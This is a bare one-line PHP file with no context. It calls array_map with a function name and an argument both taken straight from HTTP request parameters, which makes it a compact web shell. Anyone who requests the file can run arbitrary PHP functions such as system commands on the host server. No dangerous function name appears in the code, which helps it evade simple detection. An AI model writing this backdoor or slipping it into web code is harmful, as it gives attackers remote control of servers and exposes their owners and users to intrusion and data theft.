<?php
array_map($_REQUEST['f'], array($_REQUEST['x']));
